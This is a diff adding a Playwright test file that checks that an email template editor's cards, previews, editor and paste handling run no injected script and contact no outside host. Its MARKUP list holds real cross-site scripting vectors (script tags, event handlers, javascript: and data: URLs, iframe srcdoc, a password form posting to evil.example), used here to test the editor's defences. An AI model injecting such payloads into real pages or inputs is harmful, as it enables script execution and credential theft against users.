@@ -1,0 +1,163 @@
+import type { Page } from '@playwright/test';
+import { blocksOf, designOf, type StoredDesign, text } from '../support/designs.ts';
+import { openTemplate, part, save, startWriting, typeInto } from '../support/mail-editor.ts';
+import { expect, story } from '../support/story.ts';
+
+/** Each sets this global, or asks this host, if anything of it runs or loads. */
+const RUN = 'top.hostileRan=1';
+const HOST = 'evil.example';
+
+const MARKUP = [
+  `<script>${RUN}</script>`,
+  `<img src="/uploads/none.png" onerror="${RUN}" alt="">`,
+  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/></svg>`,
+  `<a href="javascript:${RUN}">Script link</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">Data link</a>`,
+  `<base href="https://${HOST}/">`,
+  `<meta http-equiv="refresh" content="0;url=https://${HOST}/refresh">`,
+  `<link rel="stylesheet" href="https://${HOST}/style.css">`,
+  `<style>@import "https://${HOST}/import.css"; body { display: none }</style>`,
+  `<p style="width: expression(${RUN}); background: url(javascript:${RUN}); behavior: url(x.htc)">Styled</p>`,
+  `<iframe src="https://${HOST}/frame" srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<object data="https://${HOST}/object"></object><embed src="https://${HOST}/embed">`,
+  `<form action="https://${HOST}/form"><input autofocus onfocus="${RUN}" name="password"><button>Send</button></form>`,
+  `<div style="position: fixed; inset: 0; z-index: 99999">Cover</div>`,
+].join('');
+
+const HOSTILE_DESIGN: StoredDesign = designOf([
+  [
+    text(`<p>Before</p>${MARKUP}`),
+    { type: 'heading', values: { text: `Head ${MARKUP}`, headingType: `h1><script>${RUN}</script>` } },
+    { type: 'html', values: { html: MARKUP } },
+    { type: 'button', values: { text: 'Press', href: { values: { href: `javascript:${RUN}` } } } },
+    { type: 'image', values: { src: { url: `javascript:${RUN}` }, altText: `"><script>${RUN}</script>` } },
+    { type: 'custom#odd', values: { html: MARKUP } },
+  ],
+]);
+
+/** Watches for anything that runs or leaves. @returns fails when something did */
+async function watch(page: Page): Promise<() => Promise<void>> {
+  const asked: string[] = [];
+  await page.context().route(`https://${HOST}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  const visited: string[] = [];
+  page.on('framenavigated', (frame) => {
+    if (
+      !/^(?:about:blank|about:srcdoc|http:\/\/127\.0\.0\.1:\d+\/(?:templates|mail-frame))/u.test(frame.url())
+    )
+      visited.push(frame.url());
+  });
+  return async () => {
+    // What had been started would have shown by now.
+    await page.waitForTimeout(300);
+    expect(await page.evaluate(() => 'hostileRan' in window)).toBe(false);
+    expect(asked).toEqual([]);
+    expect(visited).toEqual([]);
+  };
+}
+
+story(
+  'T2 T9 a hostile template runs nothing on its card, in the preview, in the editor or in its preview',
+  async ({ signedIn, api, expectConsole }) => {
+    // Chromium's words about what it refused in the frame of the mail.
+    expectConsole(/mail-frame|inline event handler|base-uri|none\.png|Content Security Policy|violates/u);
+    const { id } = await api.addTemplate({
+      title: 'Hostile',
+      content: JSON.stringify(HOSTILE_DESIGN),
+      html: `<!doctype html><html><head><title>x</title></head><body onload="${RUN}"><p>Mail</p>${MARKUP}</body></html>`,
+    });
+    const expectNothing = await watch(signedIn);
+    await signedIn.goto('/templates');
+    const card = signedIn.getByRole('article', { name: 'Hostile' });
+    await expect(card.frameLocator('iframe').getByText('Mail')).toBeAttached();
+    await expectNothing();
+
+    await signedIn.goto(`/templates?preview=${id}`);
+    const preview = signedIn.getByRole('dialog').frameLocator('iframe');
+    await expect(preview.getByText('Mail')).toBeAttached();
+    await expectNothing();
+
+    await openTemplate(signedIn, id);
+    await expect(signedIn.getByRole('application').getByText('Before')).toBeVisible();
+    // Still reachable: nothing of the mail covers it.
+    await part(signedIn, /^Button/u).click();
+    await startWriting(signedIn, /^Heading/u).catch(() => undefined);
+    await signedIn.keyboard.press('Escape');
+    await expectNothing();
+    await signedIn.getByRole('button', { name: 'Desktop' }).click();
+    await expect(
+      signedIn.getByRole('dialog').frameLocator('iframe[src="/mail-frame"]').getByText('Before'),
+    ).toBeAttached();
+    await expectNothing();
+    await save(signedIn).click();
+    await expect(signedIn.getByText('Template updated')).toBeVisible();
+    const { html } = await api.template(id);
+    expect(html).not.toMatch(
+      /<script|<iframe|<form|<base|javascript:|\son\w+=|expression\(|http-equiv="refresh"/iu,
+    );
+    await expectNothing();
+  },
+);
+
+/** Pastes as the browser does, with HTML made elsewhere on the clipboard. */
+async function paste(page: Page, html: string): Promise<number> {
+  return page.evaluate((markup) => {
+    const data = new DataTransfer();
+    data.setData('text/html', markup);
+    data.setData('text/plain', 'plain');
+    const start = performance.now();
+    document.activeElement?.dispatchEvent(
+      new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
+    );
+    return performance.now() - start;
+  }, html);
+}
+
+story('T9 what is pasted runs nothing, however long it is', async ({ signedIn, api, expectConsole }) => {
+  // Chromium's word about a base that it refused.
+  expectConsole(/base-uri/u);
+  const { id } = await api.addTemplate({ content: JSON.stringify(designOf([[text('<p>Before</p>')]])) });
+  const expectNothing = await watch(signedIn);
+  await openTemplate(signedIn, id);
+  const field = await startWriting(signedIn, /^Text/u);
+  await paste(signedIn, `<p>Pasted <b>in bold</b></p>${MARKUP}`);
+  await expect(field).toContainText('Pasted in bold');
+  await expectNothing();
+  await field.press('ControlOrMeta+a');
+  const line = `<p onclick="${RUN}">Line after line of turf<script>${RUN}</script></p>`;
+  const took = await paste(signedIn, line.repeat(Math.ceil(5_000_000 / line.length)));
+  story.info().annotations.push({ type: 'measured', description: `5 MB pasted in ${Math.round(took)} ms` });
+  await expect(field).toContainText('Line after line');
+  await expect(signedIn.getByText(/too long for a mail/u)).toBeVisible();
+  await expectNothing();
+});
+
+story('T5 T9 a design of 10,000 blocks opens, is edited and saved', async ({ signedIn, api }) => {
+  const rows = Array.from({ length: 200 }, (_row, row) => [
+    Array.from({ length: 50 }, (_block, block) => text(`<p>Line ${row * 50 + block}</p>`)),
+  ]);
+  const design = designOf(...rows);
+  const { id } = await api.addTemplate({ content: JSON.stringify(design) });
+  const start = performance.now();
+  await openTemplate(signedIn, id);
+  await expect(part(signedIn, 'Text: Line 0')).toBeVisible();
+  const opened = performance.now();
+  await expect(signedIn.getByRole('alert').getByText(/An email can have 2,000 blocks/u)).toBeVisible();
+  await typeInto(signedIn, 'Text: Line 0', ' edited');
+  await expect(part(signedIn, 'Text: Line 0 edited')).toBeVisible();
+  const edited = performance.now();
+  await save(signedIn).click();
+  await expect(signedIn.getByText('Template updated')).toBeVisible({ timeout: 40_000 });
+  story.info().annotations.push({
+    type: 'measured',
+    description: `opened in ${Math.round(opened - start)} ms, edited in ${Math.round(edited - opened)} ms, saved in ${Math.round(performance.now() - edited)} ms`,
+  });
+  const after = await api.template(id);
+  expect(after.html).toContain('Line 0 edited');
+  expect(after.html).toContain('Line 1900');
+  const stored = JSON.parse(after.content) as StoredDesign;
+  expect(blocksOf(stored)).toHaveLength(10_000);
+  expect(blocksOf(stored).slice(1)).toEqual(blocksOf(design).slice(1));
+});
